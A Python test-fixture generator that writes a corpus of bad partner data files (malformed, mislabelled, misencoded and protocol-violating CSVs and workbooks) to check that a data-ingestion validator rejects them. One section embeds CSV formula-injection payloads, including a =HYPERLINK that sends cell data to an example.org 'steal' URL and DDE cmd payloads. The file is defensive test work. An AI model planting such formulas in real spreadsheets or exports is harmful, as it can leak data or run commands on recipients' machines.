"""Write the bad-input corpus: files of every quality a partner might send, and what must happen.

    python tests/ingestion/make_corpus.py [FOLDER]     (default: tests/ingestion/corpus)

The corpus is a data directory's landing zone with its own partner register, contracts and area
lookup (test fixtures, not the real register), and ``expected.json``: for every landed file, the
outcome it must have (``rejected``, ``accepted`` or ``duplicate``), the rule its reasons must
name, and what is wrong with it. ``test_corpus.py`` ingests the whole landing zone in one run.

Every value comes from a fixed seed and every file is written byte for byte the same on each
run (workbooks included: their zip entries carry a fixed date), so the committed files can be
checked against this script.

The contracts (``contracts/<partner>/<dataset>.yml``):

- ``sefton_council/ward_counts``: CSV, at most 8192 bytes, area codes checked against
  ``areas.csv``, periods as financial years, free-text notes;
- ``sefton_council/ward_workbook``: the same columns in an XLSX workbook, sheet ``Data``, header
  on row 3 under a title;
- ``sefton_council/expired_counts`` (arrangement ended 2020) and ``future_counts`` (in force
  from 2030): files that arrive outside the dates in force;
- ``nhs_sefton/nhs_counts`` (the partner never signed) and ``merseyside_police/police_counts``
  (the partner withdrew in 2011).
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
import sys
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import yaml

SEED = 20100804
HERE = Path(__file__).resolve().parent
DEFAULT_FOLDER = HERE / "corpus"
FIXED_ZIP_TIME = (2010, 8, 4, 0, 0, 0)

HEADER = ["area_code", "period", "measure", "value", "count", "reported_on", "note"]
AREAS = [f"E05{n:06d}" for n in range(930, 950)]
GOOD_ROWS = [
    ["E05000930", "2009/10", "residents", "1234.5", "12", "2010-04-01", "published figure"],
    ["E05000930", "2009/10", "households", "-0.8", "3", "2010-04-01", ""],
    ["E05000931", "2009/10", "residents", "-9.1", "0", "", "see the ward profile"],
]

PARTNERS = [
    {
        "id": "sefton_council",
        "name": "Sefton Metropolitan Borough Council",
        "sector": "statutory",
        "signed_on": date(2010, 8, 4),
        "designated_person": "Data Protection & Security Officer",
    },
    {
        "id": "nhs_sefton",
        "name": "NHS Sefton",
        "sector": "statutory",
        "signed_on": None,
        "designated_person": "Caldicott Guardian",
    },
    {
        "id": "merseyside_police",
        "name": "Merseyside Police",
        "sector": "statutory",
        "signed_on": date(2010, 9, 1),
        "withdrawn_on": date(2011, 3, 31),
        "designated_person": "Data Protection Officer",
    },
]


def contract(name: str, **changes: Any) -> dict[str, Any]:
    """The corpus contract for dataset ``name``, with sections updated by ``changes``."""
    base: dict[str, Any] = {
        "title": f"Corpus {name}",
        "description": "Residents and households by ward, for the bad-input corpus.",
        "theme": "population",
        "geography_level": "ward",
        "refresh_period": "annual",
        "agreement": {
            "reference": f"CORPUS-ISA-{name}",
            "purpose": "Testing that ingestion refuses what the protocol refuses.",
            "legal_basis": {"power": "Local Government Act 2000, section 2"},
            "category": "aggregated",
            "sensitive": False,
            "marking": "OFFICIAL",
            "retention": "P7Y",
            "valid_from": date(2010, 8, 4),
            "valid_to": None,
        },
        "delivery": {
            "cadence": "annual",
            "format": "csv",
            "encoding": "utf-8",
            "delimiter": ",",
            "header_row": 1,
            "file_pattern": f"{name}_*.csv",
            "max_file_bytes": 8192,
        },
        "schema": {
            "key": ["area_code", "period", "measure"],
            "columns": [
                {
                    "name": "area_code",
                    "type": "string",
                    "role": "area",
                    "required": True,
                    "pattern": "E05[0-9]{6}",
                },
                {
                    "name": "period",
                    "type": "string",
                    "role": "period",
                    "required": True,
                    "period_format": "financial_year",
                },
                {
                    "name": "measure",
                    "type": "string",
                    "role": "dimension",
                    "required": True,
                    "allowed_values": ["residents", "households"],
                },
                {"name": "value", "type": "decimal", "role": "measure"},
                {
                    "name": "count",
                    "type": "integer",
                    "role": "measure",
                    "minimum": 0,
                    "maximum": 1000,
                },
                {"name": "reported_on", "type": "date", "role": "dimension"},
                {"name": "note", "type": "string", "role": "dimension"},
            ],
        },
        "disclosure": {"small_number_threshold": 5},
    }
    for section, value in changes.items():
        base[section] = {**base[section], **value} if isinstance(value, dict) else value
    return base


CONTRACTS = {
    ("sefton_council", "ward_counts"): contract("ward_counts"),
    ("sefton_council", "ward_workbook"): contract(
        "ward_workbook",
        delivery={
            "format": "xlsx",
            "sheet": "Data",
            "header_row": 3,
            "file_pattern": "ward_workbook_*.xlsx",
            "max_file_bytes": 65536,
        },
    ),
    ("sefton_council", "expired_counts"): contract(
        "expired_counts", agreement={"valid_to": date(2020, 3, 31)}
    ),
    ("sefton_council", "future_counts"): contract(
        "future_counts", agreement={"valid_from": date(2030, 4, 1)}
    ),
    ("nhs_sefton", "nhs_counts"): contract("nhs_counts"),
    ("merseyside_police", "police_counts"): contract("police_counts"),
}


# --- identifiers, from the seed -----------------------------------------------------------------


def nhs_number(rng: random.Random) -> str:
    """Ten digits whose modulus 11 check digit is valid (and not all one digit)."""
    while True:
        digits = [rng.randrange(10) for _ in range(9)]
        check = 11 - sum(d * (10 - i) for i, d in enumerate(digits)) % 11
        check = 0 if check == 11 else check
        if check != 10 and len(set(digits)) > 1:
            text = "".join(map(str, [*digits, check]))
            return f"{text[:3]} {text[3:6]} {text[6:]}"


def ni_number(rng: random.Random) -> str:
    first, second = "ABCEGHJKLMNOPRSTWXYZ", "ABCEGHJKLMNPRSTWXYZ"
    while (prefix := rng.choice(first) + rng.choice(second)) in {
        "BG",
        "GB",
        "NK",
        "KN",
        "TN",
        "NT",
        "ZZ",
    }:
        pass
    number = "".join(str(rng.randrange(10)) for _ in range(6))
    return f"{prefix} {number[:2]} {number[2:4]} {number[4:]} {rng.choice('ABCD')}"


def postcode(rng: random.Random) -> str:
    unit = "ABDEFGHJLNPQRSTUWXYZ"
    area = rng.choice(["L", "PR", "CH", "WA", "M", "SW"])
    return f"{area}{rng.randrange(1, 40)} {rng.randrange(10)}{rng.choice(unit)}{rng.choice(unit)}"


def email(rng: random.Random) -> str:
    name = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(7))
    return f"{name}.{rng.randrange(100)}@example.org"


def phone(rng: random.Random) -> str:
    return f"0151 {rng.randrange(200, 999)} {rng.randrange(1000, 9999)}"


def birth(rng: random.Random) -> str:
    day = date(1950, 1, 1).toordinal() + rng.randrange(20000)
    return f"DOB {date.fromordinal(day).strftime('%d/%m/%Y')}"


# --- writing files ------------------------------------------------------------------------------


def csv_bytes(
    rows: list[list[str]],
    header: list[str] | None = None,
    encoding: str = "utf-8",
    delimiter: str = ",",
    newline: str = "\n",
) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator=newline)
    writer.writerow(HEADER if header is None else header)
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def with_note(note: str, column: str = "note") -> list[list[str]]:
    rows = [list(r) for r in GOOD_ROWS]
    rows[1][HEADER.index(column)] = note
    return rows


def xlsx_bytes(rows: list[list[Any]], title: bool = True, sheet: str = "Data") -> bytes:
    """A workbook, written deterministically (fixed document dates and zip entry times)."""
    import openpyxl

    workbook = openpyxl.Workbook()
    worksheet = workbook.active
    worksheet.title = sheet
    if title:
        worksheet.append(["Residents and households by ward"])
        worksheet.append(["Source: Sefton Council"])
    for row in rows:
        worksheet.append(row)
    fixed = datetime(2010, 8, 4)
    workbook.properties.created = workbook.properties.modified = fixed
    workbook.properties.creator = "corpus"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return rezip(buffer.getvalue())


def rezip(data: bytes) -> bytes:
    """The same zip with every entry dated :data:`FIXED_ZIP_TIME`, and the document's own
    modification time (which openpyxl sets to the time of saving) fixed too."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "docProps/core.xml":
                content = re.sub(
                    rb"(<dcterms:modified[^>]*>)[^<]*(</dcterms:modified>)",
                    rb"\g<1>2010-08-04T00:00:00Z\g<2>",
                    content,
                )
            entry = zipfile.ZipInfo(info.filename, FIXED_ZIP_TIME)
            entry.compress_type = zipfile.ZIP_DEFLATED
            entry.external_attr = info.external_attr
            target.writestr(entry, content)
    return out.getvalue()


def zip_bytes(entries: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name, text in entries.items():
            entry = zipfile.ZipInfo(name, FIXED_ZIP_TIME)
            entry.compress_type = zipfile.ZIP_DEFLATED
            target.writestr(entry, text)
    return out.getvalue()


def header_row(rows: list[list[str]]) -> list[list[Any]]:
    return [HEADER, *rows]


# --- the corpus ---------------------------------------------------------------------------------


def build() -> dict[str, tuple[bytes, dict[str, str]]]:
    """Every landed file: path under ``landing/`` -> (bytes, expectation)."""
    rng = random.Random(SEED)  # noqa: S311 - test data, not secrets
    files: dict[str, tuple[bytes, dict[str, str]]] = {}

    def put(path: str, data: bytes, rule: str | None, what: str, outcome: str = "rejected"):
        # short names are ward_counts files; "./name" is a file at the top of the landing zone
        if path.startswith("./"):
            path = path[2:]
        elif "/" not in path:
            path = f"sefton_council/ward_counts/ward_counts_{path}"
        assert path not in files, path
        expectation = {"outcome": outcome, "what": what}
        if rule is not None:
            expectation["rule"] = rule
        files[path] = (data, expectation)

    good = csv_bytes(GOOD_ROWS)
    # --- good files, loaded in the same run
    put("2009-10.csv", good, None, "a good file", "accepted")
    bom_rows = [["E05000932", "2010/11", "residents", "17", "5", "2011-04-01", "BOM, CRLF"]]
    put(
        "2010-11_bom.csv",
        b"\xef\xbb\xbf" + csv_bytes(bom_rows, newline="\r\n"),
        None,
        "a good file with a UTF-8 byte-order mark and CRLF line ends",
        "accepted",
    )
    quoted = [
        [
            "E05000933",
            "2011/12",
            "households",
            "3.5",
            "7",
            "2012-04-01",
            'figures, "revised"\nsecond line of the note',
        ]
    ]
    put(
        "2011-12_o'neill.csv",
        csv_bytes(quoted),
        None,
        "a good file with an apostrophe in its name and a quoted multi-line note",
        "accepted",
    )
    put(
        "sefton_council/ward_workbook/ward_workbook_2009-10.xlsx",
        xlsx_bytes(header_row(GOOD_ROWS)),
        None,
        "a good workbook with a title above the header",
        "accepted",
    )
    # --- the same bytes again
    put("2009-10_resent.csv", good, None, "the good file sent again, byte for byte", "duplicate")

    # --- malformed
    put(
        "unclosed_quote.csv",
        csv_bytes(GOOD_ROWS) + b'E05000932,2009/10,residents,1,1,,"open\n',
        "parse",
        "a quoted field that never closes",
    )
    put(
        "too_many_fields.csv",
        csv_bytes(GOOD_ROWS) + b"E05000932,2009/10,residents,1,1,,note,extra\n",
        "parse",
        "a row with more fields than the header",
    )
    put(
        "too_few_fields.csv",
        csv_bytes(GOOD_ROWS) + b"E05000932,2009/10,residents\n",
        "parse",
        "a row with fewer fields than the header",
    )
    put(
        "random_bytes.csv",
        bytes(rng.randrange(256) for _ in range(600)),
        "encoding",
        "random bytes",
    )
    put(
        "semicolons.csv",
        csv_bytes(GOOD_ROWS, delimiter=";"),
        "missing_column",
        "separated by semicolons, not the agreed commas",
    )
    put(
        "duplicate_header.csv",
        csv_bytes([[*r, "x"] for r in GOOD_ROWS], [*HEADER, "note"]),
        "duplicate_column",
        "a column named twice in the header",
    )
    put(
        "blank_header_name.csv",
        csv_bytes([[*r, "x"] for r in GOOD_ROWS], [*HEADER, ""]),
        "header",
        "a header column without a name",
    )
    put(
        "nul_bytes.csv",
        csv_bytes(with_note("before\x00after")),
        "encoding",
        "a NUL byte inside a cell",
    )
    put(
        "text_after_quote.csv",
        csv_bytes(GOOD_ROWS) + b'E05000932,2009/10,residents,1,1,,"abc"def\n',
        "parse",
        "text after the closing quote of a field",
    )
    put(
        "notes_above_header.csv",
        b"Ward counts 2009/10\n\n" + good,
        "missing_column",
        "a title above the header of a CSV agreed to start with its header",
    )
    put(
        "pdf_named_csv.csv",
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< >>\nendobj\n",
        "encoding",
        "a PDF saved with a .csv name",
    )

    # --- hostile: formulas
    put(
        "formula_hyperlink.csv",
        csv_bytes(with_note('=HYPERLINK("http://example.org/steal?d="&A1,"click")')),
        "formula",
        "=HYPERLINK in a note",
    )
    put(
        "formula_plus_cmd.csv",
        csv_bytes(with_note("+cmd|' /C calc'!A0")),
        "formula",
        "+cmd (dynamic data exchange) in a note",
    )
    put(
        "formula_at_sum.csv",
        csv_bytes(with_note("@SUM(1+1)*cmd|' /C calc'!A0")),
        "formula",
        "@SUM in a note",
    )
    put("formula_minus.csv", csv_bytes(with_note("-2+3")), "formula", "-2+3 in a note")
    put(
        "formula_dde.csv", csv_bytes(with_note("=cmd|'/C notepad'!A0")), "formula", "=cmd in a note"
    )
    put(
        "formula_in_value.csv",
        csv_bytes(with_note("=1+1", "value")),
        "formula",
        "a formula in a number column",
    )
    put(
        "formula_after_tab.csv",
        csv_bytes(with_note("\t=SUM(A1:A9)")),
        "formula",
        "a formula behind a tab",
    )
    formula_rows = header_row(with_note("x"))
    formula_rows[2][6] = '=HYPERLINK("http://example.org","click")'
    put(
        "sefton_council/ward_workbook/ward_workbook_formula.xlsx",
        xlsx_bytes(formula_rows),
        "formula",
        "a workbook with a formula cell",
    )

    # --- mislabelled
    put(
        "sefton_council/ward_workbook/ward_workbook_really_csv.xlsx",
        good,
        "parse",
        "a CSV with an .xlsx name",
    )
    put(
        "sefton_council/ward_workbook/ward_workbook_zip_of_text.xlsx",
        zip_bytes({"readme.txt": "not a workbook"}),
        "parse",
        "an .xlsx that is a zip of a text file",
    )
    put(
        "sefton_council/ward_workbook/ward_workbook_zip_of_document.xlsx",
        zip_bytes({"[Content_Types].xml": "<Types/>", "word/document.xml": "<document/>"}),
        "parse",
        "an .xlsx that is a zip of a word-processor document",
    )
    put(
        "xlsx_named_csv.csv",
        xlsx_bytes(header_row(GOOD_ROWS)),
        "encoding",
        "a workbook with a .csv name",
    )
    put(
        "2009-10.xlsx",
        csv_bytes(GOOD_ROWS[:2]),
        "file_format",
        "a CSV with an .xlsx name in a CSV dataset",
    )
    put(
        "sefton_council/ward_counts/counts_2009-10.csv",
        good,
        "file_name",
        "a name outside the agreed pattern",
    )

    # --- oversized
    big = [
        [area, f"{year}/{(year + 1) % 100:02d}", measure, "1.5", "10", "2010-04-01", "bulk"]
        for area in AREAS
        for year in range(2005, 2010)
        for measure in ("residents", "households")
    ]
    put(
        "oversized.csv",
        csv_bytes(big),
        "file_too_large",
        "more bytes than the contract's max_file_bytes",
    )

    # --- empty
    put("empty.csv", b"", "empty_file", "an empty file")
    put("header_only.csv", csv_bytes([]), "no_rows", "a header and no rows")
    put("blank_lines.csv", b"\n\n\n", "empty_file", "blank lines only")
    put("spaces_only.csv", b"   \n   \n", "header", "white space only")
    put(
        "sefton_council/ward_workbook/ward_workbook_empty_sheet.xlsx",
        xlsx_bytes([]),
        "empty_file",
        "a workbook whose sheet is empty under its title",
    )
    put(
        "sefton_council/ward_workbook/ward_workbook_wrong_sheet.xlsx",
        xlsx_bytes(header_row(GOOD_ROWS), sheet="Sheet1"),
        "sheet",
        "a workbook without the agreed sheet",
    )

    # --- encodings and byte-order marks
    put(
        "cp1252_pound.csv",
        csv_bytes(with_note("\u00a35 grant"), encoding="cp1252"),
        "encoding",
        "Windows-1252 bytes (a pound sign) in a file agreed as UTF-8",
    )
    put(
        "cp1252_quotes.csv",
        csv_bytes(with_note("\u201cprovisional\u201d"), encoding="cp1252"),
        "encoding",
        "Windows-1252 curly quotes",
    )
    put(
        "invalid_utf8.csv",
        csv_bytes(GOOD_ROWS) + b"E05000932,2009/10,residents,1,1,,\xc3\x28\n",
        "encoding",
        "an invalid UTF-8 sequence",
    )
    put(
        "utf16le_bom.csv",
        b"\xff\xfe" + csv_bytes(GOOD_ROWS).decode().encode("utf-16-le"),
        "encoding",
        "UTF-16 little-endian with its byte-order mark",
    )
    put(
        "utf16be_bom.csv",
        b"\xfe\xff" + csv_bytes(GOOD_ROWS).decode().encode("utf-16-be"),
        "encoding",
        "UTF-16 big-endian with its byte-order mark",
    )
    put(
        "utf32_bom.csv",
        csv_bytes(GOOD_ROWS).decode().encode("utf-32"),
        "encoding",
        "UTF-32 with its byte-order mark",
    )
    put(
        "double_bom.csv",
        b"\xef\xbb\xbf\xef\xbb\xbf" + good,
        "missing_column",
        "two UTF-8 byte-order marks (the second hides the first column's name)",
    )

    # --- identifiers hidden in free text
    put(
        "nhs_number.csv",
        csv_bytes(with_note(f"referred, NHS {nhs_number(rng)}")),
        "nhs_number",
        "an NHS number with a valid check digit in a note",
    )
    put(
        "ni_number.csv",
        csv_bytes(with_note(f"claimant {ni_number(rng)}")),
        "ni_number",
        "a National Insurance number in a note",
    )
    put(
        "postcode.csv",
        csv_bytes(with_note(f"lives at {postcode(rng)}")),
        "postcode",
        "a full postcode in a note",
    )
    put(
        "email.csv",
        csv_bytes(with_note(f"contact {email(rng)}")),
        "email",
        "an e-mail address in a note",
    )
    put(
        "phone.csv",
        csv_bytes(with_note(f"ring {phone(rng)} after 5")),
        "phone",
        "a telephone number in a note",
    )
    put(
        "date_of_birth.csv",
        csv_bytes(with_note(f"child, {birth(rng)}")),
        "date_of_birth",
        "a date of birth in a note",
    )
    put(
        "nhs_in_value.csv",
        csv_bytes(with_note(nhs_number(rng).replace(" ", ""), "value")),
        "nhs_number",
        "an NHS number as a number in a figures column",
    )
    put(
        "nhs_number_column.csv",
        csv_bytes([[*r, nhs_number(rng)] for r in GOOD_ROWS], [*HEADER, "nhs_number"]),
        "identifier_column",
        "an extra column of NHS numbers",
    )
    put(
        "date_of_birth_column.csv",
        csv_bytes([[*r, "1980-02-01"] for r in GOOD_ROWS], [*HEADER, "DateOfBirth"]),
        "identifier_column",
        "an extra column of dates of birth",
    )
    workbook_rows = header_row(with_note(f"NHS no {nhs_number(rng)}"))
    put(
        "sefton_council/ward_workbook/ward_workbook_nhs_number.xlsx",
        xlsx_bytes(workbook_rows),
        "nhs_number",
        "an NHS number in a workbook note",
    )

    # --- the protocol
    put(
        "nhs_sefton/nhs_counts/nhs_counts_2009-10.csv",
        good,
        "partner_not_signed",
        "from a partner that has not signed the Declaration",
    )
    put(
        "merseyside_police/police_counts/police_counts_2009-10.csv",
        good,
        "partner_withdrawn",
        "from a partner that withdrew in 2011",
    )
    put(
        "sefton_council/expired_counts/expired_counts_2009-10.csv",
        good,
        "agreement_not_in_force",
        "under an arrangement that ended in 2020",
    )
    put(
        "sefton_council/future_counts/future_counts_2009-10.csv",
        good,
        "agreement_not_in_force",
        "under an arrangement in force only from 2030",
    )
    put(
        "sefton_council/ward_ages/ward_ages_2009-10.csv",
        good,
        "contract",
        "a dataset folder no contract agrees",
    )
    put(
        "acme_ltd/acme_counts/acme_2009-10.csv",
        good,
        "contract",
        "a partner folder not in the register",
    )
    put(
        "./ward_counts_2009-10.csv",
        good[:-10] + b"stray\n",
        "contract",
        "a file dropped at the top of the landing zone",
    )

    # --- values
    def value(row: int, column: str, text: str) -> bytes:
        rows = [list(r) for r in GOOD_ROWS]
        rows[row][HEADER.index(column)] = text
        return csv_bytes(rows)

    put(
        "unknown_area.csv",
        value(2, "area_code", "E05999999"),
        "unknown_area",
        "an area code the area lookup does not know",
    )
    put(
        "area_pattern.csv",
        value(2, "area_code", "E5000931"),
        "pattern",
        "an area code not in the agreed form",
    )
    put(
        "period_unparseable.csv",
        value(0, "period", "2009-10"),
        "period_format",
        "a period not written as a financial year",
    )
    put(
        "period_years.csv",
        value(0, "period", "2009/11"),
        "period_format",
        "a financial year whose years do not follow",
    )
    put(
        "disallowed_value.csv",
        value(1, "measure", "Residents"),
        "allowed_values",
        "a value not in the allowed list (case matters)",
    )
    put("too_high.csv", value(0, "count", "1001"), "maximum", "a count above the maximum")
    put("too_low.csv", value(0, "count", "-1"), "minimum", "a count below the minimum")
    put("missing_required.csv", value(2, "period", ""), "required", "a required cell left empty")
    put("not_integer.csv", value(0, "count", "12.5"), "type", "a decimal in an integer column")
    put("thousands.csv", value(0, "value", "1,234.5"), "type", "a thousands separator")
    put(
        "not_a_date.csv",
        value(0, "reported_on", "31/03/2010"),
        "type",
        "a date not written YYYY-MM-DD",
    )
    put("impossible_date.csv", value(0, "reported_on", "2010-02-30"), "type", "30 February")
    dup = [list(r) for r in GOOD_ROWS] + [["E05000930", "2009/10", "residents", "7", "1", "", ""]]
    put("duplicate_key.csv", csv_bytes(dup), "duplicate_key", "a key used twice")
    put(
        "rows_repeated.csv",
        csv_bytes(GOOD_ROWS + GOOD_ROWS),
        "duplicate_key",
        "every row sent twice in one file",
    )
    put(
        "total_row.csv",
        csv_bytes([*GOOD_ROWS, ["Total", "", "", "1224.6", "15", "", ""]]),
        "unknown_area",
        "a totals row under the data",
    )
    put(
        "extra_column.csv",
        csv_bytes([[*r, "x"] for r in GOOD_ROWS], [*HEADER, "comment"]),
        "unexpected_column",
        "a column the contract does not have",
    )
    put(
        "missing_column.csv",
        csv_bytes([r[:4] + r[5:] for r in GOOD_ROWS], HEADER[:4] + HEADER[5:]),
        "missing_column",
        "the count column left out",
    )
    renamed = [*HEADER]
    renamed[2] = "measure_name"
    put(
        "renamed_column.csv",
        csv_bytes(GOOD_ROWS, renamed),
        "missing_column",
        "the measure column renamed",
    )
    wide = header_row(GOOD_ROWS)
    wide[2] = [*wide[2], None, "stray"]
    put(
        "sefton_council/ward_workbook/ward_workbook_stray_cell.xlsx",
        xlsx_bytes(wide),
        "parse",
        "a workbook with a value right of the last header column",
    )
    return files


def write(folder: Path = DEFAULT_FOLDER) -> int:
    """Write the corpus under ``folder``; returns the number of landed files."""
    files = build()
    landing = folder / "landing"
    for path, (data, _) in files.items():
        target = landing / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    for (partner, dataset), body in CONTRACTS.items():
        target = folder / "contracts" / partner / f"{dataset}.yml"
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(yaml.safe_dump(body, sort_keys=False))
    (folder / "partners.yml").write_text(yaml.safe_dump(PARTNERS, sort_keys=False))
    (folder / "areas.csv").write_text(
        "area_code,area_name\n" + "".join(f"{c},Ward {c}\n" for c in AREAS)
    )
    expected = {path: expectation for path, (_, expectation) in sorted(files.items())}
    (folder / "expected.json").write_text(json.dumps(expected, indent=2) + "\n")
    return len(files)


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else DEFAULT_FOLDER
    count = write(target)
    print(f"make_corpus: {count} files written under {target}")
